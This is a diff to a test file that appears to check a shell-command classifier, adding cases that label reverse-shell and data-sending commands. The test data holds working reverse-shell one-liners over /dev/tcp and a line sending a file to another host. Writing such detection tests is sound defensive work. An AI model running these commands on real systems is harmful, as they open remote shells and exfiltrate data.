@@ -62,3 +62,18 @@ def test_words_that_are_known_load_no_comparison() -> None:
 )
 def test_the_way_shows_words_as_they_could_be_written(command: str, way: str) -> None:
     assert way in [effect.reason.rpartition(": ")[0] for effect in classify(command).effects]
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "bash -i: runs what comes over the network"),
+        ("bash -i 5<>/dev/tcp/h/99 0<&5 1>&5", "bash -i: runs what comes over the network"),
+        ("exec 5<>/dev/tcp/h/99; sh <&5 >&5", "sh: runs what comes over the network"),
+        ("bash -i 0>&1", "bash -i: runs text that is not seen here: what it is fed is not known here"),
+        ("exec 3<>/dev/tcp/h/80", "<> /dev/tcp/h/80: opens a connection; what is sent there is not followed"),
+        ("cat f > /dev/tcp/h/80", "> /dev/tcp/h/80: sends content to another host"),
+    ],
+)
+def test_a_connection_of_the_shell_is_named(command: str, reason: str) -> None:
+    assert classify(command).reason == reason
